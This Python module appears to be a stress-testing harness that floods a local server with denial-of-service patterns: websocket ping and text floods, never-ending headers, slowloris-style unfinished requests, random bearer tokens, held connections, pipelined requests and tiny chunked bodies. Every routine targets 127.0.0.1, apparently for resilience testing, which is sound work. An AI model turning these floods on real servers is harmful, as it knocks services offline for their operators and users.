"""What somebody may send who wants to stop a server: connections, sockets, requests."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import os

# Tables that are attacked, where each has so many onlookers.
CROWDED, CROWD = 4, 200
UNFINISHED = 1_000
# Connections that somebody sends on and holds.
HELD = 100
Line = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Target:
    """The server as an attacker sees it."""

    def __init__(self, port: int, sources: int, tables: list[str]):
        self.port = port
        self.sources = [f"127.0.0.{number + 2}" for number in range(sources)]
        self.tables = tables

    async def connect(self, number: int) -> Line:
        source = self.sources[number % len(self.sources)]
        return await asyncio.open_connection("127.0.0.1", self.port, local_addr=(source, 0))

    async def listen(self, number: int) -> Line:
        """A socket of an onlooker."""
        reader, writer = await self.connect(number)
        table = self.tables[number % len(self.tables)]
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            f"GET /api/tables/{table}/socket HTTP/1.1\r\nHost: 127.0.0.1:{self.port}\r\n"
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: {key}\r\n\r\n".encode()
        )
        await reader.readuntil(b"\r\n\r\n")
        return reader, writer


async def presence(target: Target) -> None:
    """Onlookers come, and go all at once."""
    while True:
        lines = []
        for number in range(CROWDED * CROWD):
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                lines.append(await target.listen(number))
        for _, writer in lines:
            writer.transport.abort()
        await asyncio.sleep(0.5)


def frames(head: int, content: bytes, count: int) -> bytes:
    """So many frames, masked with zeros."""
    return (bytes([head, 0x80 | len(content), 0, 0, 0, 0]) + content) * count


async def flood(target: Target, sent: bytes) -> None:
    number = 0
    while True:
        number += 1
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await target.listen(number)
            reading = asyncio.create_task(read_all(reader))
            while not writer.transport.is_closing():
                writer.write(sent)
                await writer.drain()
                await asyncio.sleep(0)
            reading.cancel()


async def read_all(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65_536):
            pass


async def pings(target: Target) -> None:
    """Pings on listening sockets."""
    await flood(target, frames(0x89, b"", 1000))


async def texts(target: Target) -> None:
    """Texts on listening sockets."""
    await flood(target, frames(0x81, b"x" * 100, 100))


async def headers(target: Target) -> None:
    """Headers without an end."""
    number = 0
    while True:
        number += 1
        with contextlib.suppress(OSError):
            _, writer = await target.connect(number)
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ")
            while not writer.transport.is_closing():
                writer.write(b"x" * 65_536)
                await writer.drain()
                await asyncio.sleep(0)


async def unfinished(target: Target) -> None:
    """Requests that are begun and never finished."""
    lines: list[Line] = []
    while True:
        lines = [line for line in lines if not line[1].transport.is_closing()]
        while len(lines) < UNFINISHED:
            with contextlib.suppress(OSError):
                reader, writer = await target.connect(len(lines))
                writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
                lines.append((reader, writer))
        for _, writer in lines:
            writer.write(b"X: x\r\n")
        await asyncio.sleep(1)


async def tokens(target: Target) -> None:
    """Requests with made-up tokens, one after the other on every address."""

    async def ask(number: int) -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await target.connect(number)
                while True:
                    token = os.urandom(16).hex()
                    writer.write(
                        b"GET /api/me HTTP/1.1\r\nHost: x\r\n"
                        + f"Authorization: Bearer {token}\r\n\r\n".encode()
                    )
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
                    await reader.readexactly(length)

    await asyncio.gather(*(ask(number) for number in range(4 * len(target.sources))))


async def connections(target: Target) -> None:
    """Connections, opened as fast as they can be and held."""
    lines: list[Line] = []
    while True:
        with contextlib.suppress(OSError):
            lines.append(await target.connect(len(lines)))
        lines = lines[-4000:]


async def send_and_hold(target: Target, sent: bytes) -> None:
    """The same on many connections, each held for as long as the server holds it."""

    async def one(number: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await target.connect(number)
                reading = asyncio.create_task(read_all(reader))
                while not writer.transport.is_closing() and not reading.done():
                    writer.write(sent)
                    await writer.drain()
                    await asyncio.sleep(0.05)
                reading.cancel()

    await asyncio.gather(*(one(number) for number in range(HELD)))


async def ahead(target: Target) -> None:
    """Requests ahead of their answers."""
    await send_and_hold(target, b"GET /api/me HTTP/1.1\r\nHost: localhost\r\n\r\n" * 6_000)


async def chunks(target: Target) -> None:
    """Bodies in the smallest of chunks."""
    head = b"POST /api/me HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    await send_and_hold(target, head + b"1\r\n \r\n" * 40_000)


async def pages(target: Target) -> None:
    """Pages, and what is not there, as fast as they are answered."""
    paths = b"/", b"/api/docs", b"/api/nothing", b"/api/lobby"
    asked = [b"GET " + path + b" HTTP/1.1\r\nHost: localhost\r\n\r\n" for path in paths]
    await send_and_hold(target, b"".join(asked))
